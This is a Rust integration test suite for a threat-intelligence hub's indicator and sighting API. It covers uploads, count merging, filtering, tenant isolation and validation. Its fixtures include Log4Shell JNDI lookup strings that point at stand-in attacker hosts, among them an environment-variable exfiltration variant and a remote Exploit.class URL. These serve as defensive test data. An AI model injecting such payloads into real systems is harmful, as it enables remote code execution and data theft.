//! Indicators and sightings (`POST /api/sightings`, `GET /api/sightings`,
//! `GET /api/indicators`, `GET /api/indicators/{id}`): the body `vigilo logs
//! --upload` sends is stored, a repeated upload adds counts and widens
//! times, lists filter and page, organisations see only their own,
//! validation names JSON pointers, uploads are audited and exported, and a
//! read-only token cannot upload; on every backend.

use axum::http::{Method, StatusCode};
use serde_json::{Value, json};
use vigilo_test_support::for_each_backend;

use crate::support::{Call, Hub, Resp, marker};

/// One indicator in the shape the CLI sends.
fn indicator(kind: &str, value: &str, role: &str, count: u64, first: &str, last: &str) -> Value {
    json!({
        "kind": kind, "value": value, "role": role, "rules": ["log4shell-jndi"],
        "count": count, "first_seen": first, "last_seen": last,
        "example": format!("${{jndi:ldap://{value}/a}}"),
    })
}

fn body(sensor: &str, indicators: Vec<Value>) -> Value {
    json!({ "sensor": sensor, "indicators": indicators })
}

async fn upload(hub: &Hub, token: &str, doc: &Value) -> Resp {
    hub.post("/api/sightings", token, doc).await
}

fn id_of(list: &Value, value: &str) -> String {
    list["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["value"] == value)
        .unwrap_or_else(|| panic!("no {value} in {list}"))["id"]
        .as_str()
        .unwrap()
        .to_owned()
}

#[tokio::test]
async fn uploads_are_stored_and_repeated_uploads_add_up() {
    for_each_backend(|db| async move {
        let hub = Hub::new(db).await;
        let org = hub.org("logs").await;
        let analyst = hub.token_with_role(&org.admin, "analyst").await;

        // Exactly the body the CLI sends.
        let first = json!({"sensor": "web-01", "indicators": [
            {"kind": "domain-name", "value": "Evil.Example", "role": "callback",
             "rules": ["log4shell-jndi"], "count": 3,
             "first_seen": "2021-12-10T10:00:00Z", "last_seen": "2021-12-10T12:00:00Z",
             "example": "${jndi:ldap://evil.example/a}"},
            {"kind": "ipv4-addr", "value": "192.0.2.7", "role": "source",
             "rules": ["log4shell-jndi"], "count": 3,
             "first_seen": "2021-12-10T10:00:00Z", "last_seen": "2021-12-10T12:00:00Z",
             "example": "${jndi:ldap://evil.example/a}"},
            {"kind": "url", "value": "http://198.51.100.9:8000/Exploit.class", "role": "payload",
             "rules": ["log4shell-jndi"], "count": 1, "first_seen": null, "last_seen": null,
             "example": "${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/d2dldA==}"},
        ]});
        let r = upload(&hub, &analyst.secret, &first).await;
        let created = r.json(StatusCode::CREATED);
        assert_eq!(created["indicators"], 3);
        assert_eq!(created["sightings"], 3);
        assert_eq!(created["created"], 3);
        assert_eq!(created["hits"], 7);
        let upload_id = created["upload_id"].as_str().unwrap().to_owned();
        assert_eq!(
            r.headers["location"],
            format!("/api/sightings?upload={upload_id}").as_str()
        );

        let list = hub
            .get("/api/indicators", &analyst.secret)
            .await
            .json(StatusCode::OK);
        assert_eq!(list["indicators"].as_array().unwrap().len(), 3);
        assert_eq!(list["next_after"], Value::Null);
        let evil_id = id_of(&list, "evil.example");
        let evil = list["indicators"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["id"] == evil_id.as_str())
            .unwrap()
            .clone();
        assert_eq!(evil["kind"], "domain-name");
        assert_eq!(evil["role"], "callback");
        assert_eq!(evil["rules"], json!(["log4shell-jndi"]));
        assert_eq!(evil["count"], 3);
        assert_eq!(evil["sightings"], 1);
        assert_eq!(evil["first_seen"], "2021-12-10T10:00:00Z");
        assert_eq!(evil["last_seen"], "2021-12-10T12:00:00Z");
        assert_eq!(evil["example"], "${jndi:ldap://evil.example/a}");
        let url_id = id_of(&list, "http://198.51.100.9:8000/Exploit.class");

        // A second sensor: the same callback host, seen earlier and later and
        // under one more rule; and the payload URL, now with times.
        let second = body(
            "web-02",
            vec![
                json!({"kind": "domain-name", "value": "evil.example.", "role": "callback",
                       "rules": ["log4shell-jndi-exfil"], "count": 5,
                       "first_seen": "2021-12-09T08:00:00Z", "last_seen": "2021-12-11T09:30:00Z",
                       "example": "${jndi:ldap://${env:USER}.evil.example/a}"}),
                json!({"kind": "url", "value": "http://198.51.100.9:8000/Exploit.class",
                       "role": "payload", "count": 2,
                       "first_seen": "2021-12-12T00:00:00Z", "last_seen": "2021-12-12T01:00:00Z"}),
            ],
        );
        let again = upload(&hub, &org.admin, &second)
            .await
            .json(StatusCode::CREATED);
        assert_eq!(
            (&again["indicators"], &again["sightings"], &again["created"]),
            (&json!(2), &json!(2), &json!(0))
        );
        let page = hub
            .get(&format!("/api/indicators/{evil_id}"), &analyst.secret)
            .await
            .json(StatusCode::OK);
        let ind = &page["indicator"];
        assert_eq!(ind["id"], evil_id.as_str());
        assert_eq!(ind["count"], 8, "counts add up");
        assert_eq!(ind["sightings"], 2);
        assert_eq!(ind["first_seen"], "2021-12-09T08:00:00Z", "times widen");
        assert_eq!(ind["last_seen"], "2021-12-11T09:30:00Z");
        assert_eq!(
            ind["rules"],
            json!(["log4shell-jndi", "log4shell-jndi-exfil"])
        );
        assert_eq!(
            ind["example"], "${jndi:ldap://evil.example/a}",
            "the first example stays"
        );
        let sightings = page["sightings"].as_array().unwrap();
        assert_eq!(sightings.len(), 2);
        assert_eq!(sightings[0]["sensor"], "web-01");
        assert_eq!(sightings[0]["count"], 3);
        assert_eq!(sightings[0]["upload_id"], upload_id.as_str());
        assert_eq!(
            sightings[0]["uploaded_by"],
            format!("token:{}", analyst.id).as_str()
        );
        assert_eq!(sightings[1]["sensor"], "web-02");
        assert_eq!(sightings[1]["count"], 5);
        assert_eq!(sightings[1]["first_seen"], "2021-12-09T08:00:00Z");
        assert_eq!(sightings[1]["value"], "evil.example");
        assert_eq!(page["next_after"], Value::Null);
        let url = hub
            .get(&format!("/api/indicators/{url_id}"), &analyst.secret)
            .await
            .json(StatusCode::OK);
        assert_eq!(url["indicator"]["count"], 3);
        assert_eq!(url["indicator"]["first_seen"], "2021-12-12T00:00:00Z");
        assert_eq!(url["sightings"][0]["first_seen"], Value::Null);

        // Paging the sightings of one indicator.
        let p1 = hub
            .get(
                &format!("/api/indicators/{evil_id}?limit=1"),
                &analyst.secret,
            )
            .await
            .json(StatusCode::OK);
        assert_eq!(p1["sightings"].as_array().unwrap().len(), 1);
        let after = p1["next_after"].as_str().unwrap().to_owned();
        let p2 = hub
            .get(
                &format!("/api/indicators/{evil_id}?limit=1&after={after}"),
                &analyst.secret,
            )
            .await
            .json(StatusCode::OK);
        assert_eq!(p2["sightings"][0]["sensor"], "web-02");

        // All sightings, and filtered by upload or sensor.
        let all = hub
            .get("/api/sightings", &analyst.secret)
            .await
            .json(StatusCode::OK);
        assert_eq!(all["sightings"].as_array().unwrap().len(), 5);
        let by_upload = hub
            .get(
                &format!("/api/sightings?upload={upload_id}"),
                &analyst.secret,
            )
            .await
            .json(StatusCode::OK);
        assert_eq!(by_upload["sightings"].as_array().unwrap().len(), 3);
        let by_sensor = hub
            .get("/api/sightings?sensor=web-02", &analyst.secret)
            .await
            .json(StatusCode::OK);
        assert_eq!(by_sensor["sightings"].as_array().unwrap().len(), 2);
        let by_ind = hub
            .get(
                &format!("/api/sightings?indicator={url_id}"),
                &analyst.secret,
            )
            .await
            .json(StatusCode::OK);
        assert_eq!(by_ind["sightings"].as_array().unwrap().len(), 2);
        let p = hub
            .get("/api/sightings?limit=2", &analyst.secret)
            .await
            .json(StatusCode::OK);
        assert_eq!(p["sightings"].as_array().unwrap().len(), 2);
        assert!(p["next_after"].is_string());

        // Every upload is audited, with its counts.
        let events = hub
            .store
            .audit_events(Some(&org.id), 0, 10_000)
            .await
            .unwrap();
        let uploads: Vec<_> = events
            .iter()
            .filter(|e| e.action == "sightings.upload")
            .collect();
        assert_eq!(uploads.len(), 2);
        assert_eq!(uploads[0].object, format!("upload:{upload_id}"));
        assert_eq!(uploads[0].actor, format!("token:{}", analyst.id));
        let detail: Value = serde_json::from_str(uploads[1].detail.as_deref().unwrap()).unwrap();
        assert_eq!(detail["sensor"], "web-02");
        assert_eq!(detail["indicators"], 2);
        assert_eq!(detail["hits"], 7);

        // The organisation's export carries both.
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("export");
        let manifest = hub
            .store
            .export_org(&vigilo_store::Actor::system(), &org.name, &out)
            .await
            .unwrap();
        assert_eq!(manifest.files["indicators.jsonl"].records, 3);
        assert_eq!(manifest.files["sightings.jsonl"].records, 5);
        let text = std::fs::read_to_string(out.join("indicators.jsonl")).unwrap();
        assert!(text.contains("\"evil.example\""), "{text}");
    })
    .await;
}

#[tokio::test]
async fn indicators_filter_and_page() {
    for_each_backend(|db| async move {
        let hub = Hub::new(db).await;
        let org = hub.org("logsq").await;
        let mut list: Vec<Value> = (0..5)
            .map(|i| {
                indicator(
                    "domain-name",
                    &format!("h{i}.evil.example"),
                    "callback",
                    1,
                    &format!("2021-12-1{i}T00:00:00Z"),
                    &format!("2021-12-1{i}T00:00:00Z"),
                )
            })
            .collect();
        list.push(indicator(
            "ipv6-addr",
            "2001:DB8::1",
            "source",
            2,
            "2021-12-10T00:00:00Z",
            "2021-12-10T00:00:00Z",
        ));
        upload(&hub, &org.admin, &body("web-01", list))
            .await
            .json(StatusCode::CREATED);
        let values = |q: &str| {
            let hub = &hub;
            let token = org.admin.clone();
            let path = format!("/api/indicators?{q}");
            async move {
                let r = hub.get(&path, &token).await.json(StatusCode::OK);
                let mut v: Vec<String> = r["indicators"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|i| i["value"].as_str().unwrap().to_owned())
                    .collect();
                v.sort();
                v
            }
        };
        assert_eq!(values("role=source").await, ["2001:db8::1"]);
        assert_eq!(values("kind=ipv6-addr").await, ["2001:db8::1"]);
        assert_eq!(values("kind=url").await, Vec::<String>::new());
        assert_eq!(values("q=H3").await, ["h3.evil.example"]);
        assert_eq!(values("q=db8").await, ["2001:db8::1"]);
        assert_eq!(
            values("since=2021-12-13T00:00:00Z").await,
            ["h3.evil.example", "h4.evil.example"]
        );
        assert_eq!(
            values("role=callback&q=evil&since=2021-12-14T00:00:00Z").await,
            ["h4.evil.example"]
        );
        // Paging visits each once.
        let mut seen = Vec::new();
        let mut after = String::new();
        loop {
            let r = hub
                .get(
                    &format!("/api/indicators?limit=4&after={after}"),
                    &org.admin,
                )
                .await
                .json(StatusCode::OK);
            for i in r["indicators"].as_array().unwrap() {
                seen.push(i["id"].as_str().unwrap().to_owned());
            }
            match r["next_after"].as_str() {
                Some(a) => after = a.to_owned(),
                None => break,
            }
        }
        assert_eq!(seen.len(), 6);
        let mut unique = seen.clone();
        unique.dedup();
        assert_eq!(unique, seen);
        // Bad query parameters are 400s naming them.
        for (q, pointer) in [
            ("role=attacker", "/role"),
            ("kind=hostname", "/kind"),
            ("since=yesterday", "/since"),
            ("limit=0", "/limit"),
            ("limit=1001", "/limit"),
        ] {
            let r = hub.get(&format!("/api/indicators?{q}"), &org.admin).await;
            assert_eq!(r.pointers(StatusCode::BAD_REQUEST), [pointer], "{q}");
        }
        for q in ["limit=x", "colour=red"] {
            hub.get(&format!("/api/indicators?{q}"), &org.admin)
                .await
                .problem(StatusCode::BAD_REQUEST);
            hub.get(&format!("/api/sightings?{q}"), &org.admin)
                .await
                .problem(StatusCode::BAD_REQUEST);
        }
        hub.get(
            &format!("/api/indicators?q={}", "a".repeat(257)),
            &org.admin,
        )
        .await
        .problem(StatusCode::BAD_REQUEST);
    })
    .await;
}

#[tokio::test]
async fn organisations_see_only_their_own_indicators() {
    for_each_backend(|db| async move {
        let hub = Hub::new(db).await;
        let a = hub.org("logsa").await;
        let b = hub.org("logsb").await;
        let secret = format!("a{}.evil.example", marker());
        let shared = "shared.evil.example";
        let times = ("2021-12-10T00:00:00Z", "2021-12-10T01:00:00Z");
        let doc_a = body(
            "a-sensor",
            vec![
                indicator("domain-name", &secret, "callback", 4, times.0, times.1),
                indicator("domain-name", shared, "callback", 1, times.0, times.1),
            ],
        );
        upload(&hub, &a.admin, &doc_a)
            .await
            .json(StatusCode::CREATED);
        let doc_b = body(
            "b-sensor",
            vec![indicator(
                "domain-name",
                shared,
                "callback",
                1,
                times.0,
                times.1,
            )],
        );
        let up_b = upload(&hub, &b.admin, &doc_b)
            .await
            .json(StatusCode::CREATED);
        assert_eq!(up_b["created"], 1, "B's indicator is its own");

        let list_a = hub
            .get("/api/indicators", &a.admin)
            .await
            .json(StatusCode::OK);
        let secret_id = id_of(&list_a, &secret);
        let shared_a = id_of(&list_a, shared);
        // B sees neither A's indicator, nor A's counts, nor A's sensor.
        let r = hub
            .get(&format!("/api/indicators/{secret_id}"), &b.admin)
            .await;
        let p = r.problem(StatusCode::NOT_FOUND);
        assert!(!p.to_string().contains(&secret), "{p}");
        hub.get(&format!("/api/indicators/{shared_a}"), &b.admin)
            .await
            .problem(StatusCode::NOT_FOUND);
        let reader_b = hub.token_with_role(&b.admin, "reader").await;
        for token in [&b.admin, &reader_b.secret] {
            for path in [
                "/api/indicators".to_owned(),
                "/api/sightings".to_owned(),
                format!("/api/sightings?indicator={secret_id}"),
                format!("/api/indicators?q={secret}"),
            ] {
                let r = hub.get(&path, token).await.json(StatusCode::OK);
                let text = r.to_string();
                assert!(!text.contains(&secret), "{path}: {text}");
                assert!(!text.contains(&secret_id), "{path}: {text}");
                assert!(!text.contains(&shared_a), "{path}: {text}");
                assert!(!text.contains("a-sensor"), "{path}: {text}");
            }
        }
        let list_b = hub
            .get("/api/indicators", &b.admin)
            .await
            .json(StatusCode::OK);
        assert_eq!(list_b["indicators"].as_array().unwrap().len(), 1);
        assert_eq!(list_b["indicators"][0]["count"], 1);
        // A's totals are untouched by B's upload of the same host.
        let page_a = hub
            .get(&format!("/api/indicators/{shared_a}"), &a.admin)
            .await
            .json(StatusCode::OK);
        assert_eq!(page_a["indicator"]["count"], 1);
        assert_eq!(page_a["sightings"].as_array().unwrap().len(), 1);
        assert_eq!(page_a["sightings"][0]["sensor"], "a-sensor");
        for id in ["nope", "0190a5c4-0000-7000-8000-000000000000"] {
            hub.get(&format!("/api/indicators/{id}"), &a.admin)
                .await
                .problem(StatusCode::NOT_FOUND);
        }
    })
    .await;
}

#[tokio::test]
async fn a_read_only_token_cannot_upload() {
    for_each_backend(|db| async move {
        let hub = Hub::new(db).await;
        let org = hub.org("logsro").await;
        let doc = body(
            "web-01",
            vec![indicator(
                "domain-name",
                "evil.example",
                "callback",
                1,
                "2021-12-10T00:00:00Z",
                "2021-12-10T00:00:00Z",
            )],
        );
        for role in ["reader", "sync"] {
            let t = hub.token_with_role(&org.admin, role).await;
            upload(&hub, &t.secret, &doc)
                .await
                .problem(StatusCode::FORBIDDEN);
            hub.get("/api/indicators", &t.secret)
                .await
                .json(StatusCode::OK);
            hub.get("/api/sightings", &t.secret)
                .await
                .json(StatusCode::OK);
        }
        let reporter = hub.token_with_role(&org.admin, "reporter").await;
        upload(&hub, &reporter.secret, &doc)
            .await
            .json(StatusCode::CREATED);
        hub.send(Call::new(Method::POST, "/api/sightings").json(&doc))
            .await
            .problem(StatusCode::UNAUTHORIZED);
        for path in ["/api/sightings", "/api/indicators", "/api/indicators/x"] {
            hub.send(Call::new(Method::GET, path))
                .await
                .problem(StatusCode::UNAUTHORIZED);
        }
    })
    .await;
}

#[tokio::test]
async fn invalid_uploads_are_rejected_with_pointers() {
    for_each_backend(|db| async move {
        let hub = Hub::new(db).await;
        let org = hub.org("logsval").await;
        let ok = |value: &str| {
            indicator(
                "domain-name",
                value,
                "callback",
                1,
                "2021-12-10T00:00:00Z",
                "2021-12-10T00:00:00Z",
            )
        };
        let good = body(
            "web-01",
            vec![
                ok("a.example"),
                ok("b.example"),
                ok("c.example"),
                ok("d.example"),
            ],
        );
        let with = |f: &dyn Fn(&mut Value)| {
            let mut d = good.clone();
            f(&mut d);
            d
        };
        let cases: Vec<(Value, Vec<&str>)> = vec![
            (
                with(&|d| d["indicators"][3]["value"] = json!("not a host")),
                vec!["/indicators/3/value"],
            ),
            (
                with(&|d| {
                    d["indicators"][1]["kind"] = json!("ipv4-addr");
                    d["indicators"][2]["kind"] = json!("ipv6-addr");
                }),
                vec!["/indicators/1/value", "/indicators/2/value"],
            ),
            (
                with(&|d| d["indicators"][0]["kind"] = json!("hostname")),
                vec!["/indicators/0/kind"],
            ),
            (
                with(&|d| d["indicators"][0]["role"] = json!("attacker")),
                vec!["/indicators/0/role"],
            ),
            (
                with(&|d| {
                    d["indicators"][0]["count"] = json!(0);
                    d["indicators"][1]["count"] = json!(-1);
                    d["indicators"][2]["count"] = json!("3");
                    d["indicators"][3].as_object_mut().unwrap().remove("count");
                }),
                vec![
                    "/indicators/0/count",
                    "/indicators/1/count",
                    "/indicators/2/count",
                    "/indicators/3/count",
                ],
            ),
            (
                with(&|d| d["indicators"][2]["first_seen"] = json!("2021-12-11T00:00:00Z")),
                vec!["/indicators/2/first_seen"],
            ),
            (
                with(&|d| d["indicators"][2]["last_seen"] = json!("tomorrow")),
                vec!["/indicators/2/last_seen"],
            ),
            (
                with(&|d| d["indicators"][1]["rules"] = json!(["log4shell-jndi", "no spaces"])),
                vec!["/indicators/1/rules/1"],
            ),
            (
                with(&|d| d["indicators"][1]["example"] = json!("x".repeat(4097))),
                vec!["/indicators/1/example"],
            ),
            (
                with(&|d| {
                    d["indicators"][1]["value"] = json!(format!("{}.example", "a".repeat(4090)))
                }),
                vec!["/indicators/1/value"],
            ),
            (
                with(&|d| d["indicators"][1]["tlp"] = json!("amber")),
                vec!["/indicators/1/tlp"],
            ),
            (
                with(&|d| d["indicators"][1] = json!("evil.example")),
                vec!["/indicators/1"],
            ),
            (with(&|d| d["sensor"] = json!("")), vec!["/sensor"]),
            (
                with(&|d| d["sensor"] = json!("x".repeat(256))),
                vec!["/sensor"],
            ),
            (
                with(&|d| {
                    d.as_object_mut().unwrap().remove("sensor");
                }),
                vec!["/sensor"],
            ),
            (with(&|d| d["indicators"] = json!({})), vec!["/indicators"]),
            (with(&|d| d["schema"] = json!("x")), vec!["/schema"]),
            (json!(7), vec![""]),
        ];
        for (doc, want) in cases {
            let r = upload(&hub, &org.admin, &doc).await;
            let pointers = r.pointers(StatusCode::UNPROCESSABLE_ENTITY);
            assert_eq!(pointers, want, "{}", r.text());
        }
        // Too many indicators: refused before any is read.
        let many = body("s", vec![json!({}); 10_001]);
        let config_limit = hub
            .send(
                Call::new(Method::POST, "/api/sightings")
                    .bearer(&org.admin)
                    .json(&many),
            )
            .await;
        // 10,001 empty objects fit the default 1 MiB body limit.
        assert_eq!(
            config_limit.pointers(StatusCode::UNPROCESSABLE_ENTITY),
            ["/indicators"]
        );
        // Many bad indicators: every one counted, the first hundred listed.
        let bad = body(
            "s",
            vec![json!({"kind": "domain-name", "role": "callback"}); 60],
        );
        let body_ = upload(&hub, &org.admin, &bad)
            .await
            .problem(StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(body_["errors"].as_array().unwrap().len(), 100);
        assert!(
            body_["detail"].as_str().unwrap().starts_with("120 invalid"),
            "{body_}"
        );
        // Transport errors: malformed JSON, no JSON content type.
        hub.send(
            Call::new(Method::POST, "/api/sightings")
                .bearer(&org.admin)
                .raw(Some("application/json"), "{\"sensor\": "),
        )
        .await
        .problem(StatusCode::BAD_REQUEST);
        hub.send(
            Call::new(Method::POST, "/api/sightings")
                .bearer(&org.admin)
                .raw(Some("text/plain"), good.to_string()),
        )
        .await
        .problem(StatusCode::UNSUPPORTED_MEDIA_TYPE);
        // Nothing was stored, nothing audited.
        let list = hub
            .get("/api/indicators", &org.admin)
            .await
            .json(StatusCode::OK);
        assert_eq!(list["indicators"], json!([]));
        let events = hub
            .store
            .audit_events(Some(&org.id), 0, 10_000)
            .await
            .unwrap();
        assert!(events.iter().all(|e| e.action != "sightings.upload"));
        // The valid upload is accepted.
        upload(&hub, &org.admin, &good)
            .await
            .json(StatusCode::CREATED);
    })
    .await;
}

#[tokio::test]
async fn the_sighting_endpoints_are_documented() {
    let doc: Value = serde_json::from_str(&vigilo_hub::openapi().to_json().unwrap()).unwrap();
    let paths = &doc["paths"];
    assert!(paths["/api/sightings"]["post"].is_object(), "{paths}");
    assert!(paths["/api/sightings"]["get"].is_object());
    assert!(paths["/api/indicators"]["get"].is_object());
    assert!(paths["/api/indicators/{id}"]["get"].is_object());
    assert_eq!(
        paths["/api/indicators"]["get"]["tags"],
        json!(["indicators"])
    );
    for schema in [
        "IndicatorView",
        "SightingView",
        "SightingsUploaded",
        "IndicatorPage",
    ] {
        assert!(doc["components"]["schemas"][schema].is_object(), "{schema}");
    }
}
